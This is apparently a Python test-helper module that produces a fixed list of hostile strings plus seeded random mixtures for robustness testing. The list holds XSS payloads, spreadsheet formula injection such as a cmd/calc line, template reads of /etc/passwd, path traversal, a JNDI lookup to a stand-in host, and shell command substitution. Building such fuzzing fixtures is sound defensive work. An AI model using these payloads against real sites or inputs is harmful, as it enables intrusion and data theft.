"""Texts that would do harm where they were read as more than text: markup, scripts, formulas, control signs."""

from __future__ import annotations

import random

_FIXED = (
    "<script>window.pwned = 1</script>",
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg onload=alert(1)>",
    "'\"><iframe src=javascript:alert(1)>",
    "</style><style>body{display:none}</style>",
    "<!-- ", "--> <b>", "]]>", "<![CDATA[", "&lt;b&gt;", "&#60;script&#62;", "{{ 7 * 7 }}", "{% raw %}", "{# x #}",
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "|calc", "%0a=1",
    '=HYPERLINK("http://x.example","x")', "_x0041_", "_x003D_1+1",
    "#set page(width: 1pt)", "#panic(\"x\")", "$x^2$", "*bold* _it_ `raw`", "= Heading", "- item", "/ term: x",
    "#let x = 1",
    '#image("/etc/passwd")', "#read(\"/etc/passwd\")", "@label", "<label>", "\\u{1F600}", "// comment", "/* open",
    "# heading", "> quote", "1. one", "| a | b |", "[x](javascript:alert(1))", "![x](http://x.example/a.png)",
    "www.x.example", "http://x.example/?a=b&c=d", "a@x.example", "~~gone~~", "***", "---", "===",
    "\u202eevil\u202c", "\u200b\u200d\ufeff", "\x1b[31mred", "\x00nul", "\x07", "\x9b31m",
    "\ud800", "\ufffe", "\U000e0041",
    "日本語", "العربية", "עברית", "हिन्दी", "አማርኛ", "ไทย", "😀👩‍👩‍👧", "Ελληνικά", "Українська", "Z͑ͫ̓ͪ̂a͕l̡͊g̟o̺",
    "x" * 3000, "W" * 200, "word " * 400, "a" * 4_000, "\u0301" * 50, "🏳️‍🌈" * 30,
    "", " ", "\n\n\n", "“quotes” ‘single’ «guillemets»", "NaN", "null", "true", "-0", "1e400", "2026-13-45",
    "../../etc/passwd", "C:\\Windows\\System32", "file:///etc/passwd", "${jndi:ldap://x.example/a}",
    "%s%n", "$(id)", "`id`",
)  # fmt: skip
_ALPHABET = "<>\"'&=+-@#$*_`|\\/{}[]()!?;:,. \t\nabzAZ09éß\u00a0\u00ad\u200b\u202e\u2066\ufeff\x00\x1b\x7f中א😀"


def hostile_texts(count: int) -> list[str]:
    """Known attacks, then mixtures of the signs they are made of; always the same."""
    chance = random.Random(8)
    mixed = ("".join(chance.choices(_ALPHABET, k=chance.randint(1, 40))) for _ in range(count - len(_FIXED)))
    return [*_FIXED, *mixed]
